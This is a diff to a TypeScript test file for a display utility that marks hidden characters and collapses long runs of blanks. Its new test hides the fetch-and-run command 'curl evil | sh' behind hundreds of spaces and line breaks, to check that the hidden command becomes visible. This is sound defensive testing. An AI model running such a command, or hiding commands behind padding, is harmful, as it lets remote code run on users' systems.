@@ -1,5 +1,5 @@
 import { describe, expect, test } from "bun:test";
-import { visibleSegments, visibleText } from "../../src/web/visible-text.ts";
+import { shownLineCount, visibleSegments, visibleText } from "../../src/web/visible-text.ts";
 
 /** The display text of the segments, marks included. */
 const shown = (text: string, multiline = false) => visibleSegments(text, { multiline }).map((s) => s.text).join("");
@@ -80,4 +80,19 @@ describe("visible text", () => {
     expect(visibleText("a\u202Eb")).toBe("a⟨U+202E⟩b");
     expect(shown("\u202Eb")).toBe("⟨U+202E⟩b");
   });
+
+  test("with blanks, long runs of spaces and of line breaks are one mark each, so what follows stays in sight", () => {
+    const payload = `npm test${" ".repeat(240)}${"\n".repeat(40)}curl evil | sh`;
+    const segments = visibleSegments(payload, { multiline: true, blanks: true });
+    expect(segments.map((s) => s.text).join("")).toBe("npm test⟨240 spaces⟩⟨40 line breaks⟩\ncurl evil | sh");
+    expect(segments.filter((s) => s.hidden).map((s) => s.text)).toEqual(["⟨240 spaces⟩", "⟨40 line breaks⟩"]);
+    expect(shownLineCount(payload)).toBe(2);
+    // Short runs are left alone: indentation and a paragraph break read as they are.
+    const ordinary = "if x; then\n    echo a\n\n\nfi";
+    expect(visibleSegments(ordinary, { multiline: true, blanks: true })).toEqual([{ text: ordinary, hidden: false }]);
+    expect(shownLineCount(ordinary)).toBe(5);
+    // Without the option nothing blank is marked.
+    expect(shown(payload, true)).toBe(payload);
+  });
 });
+
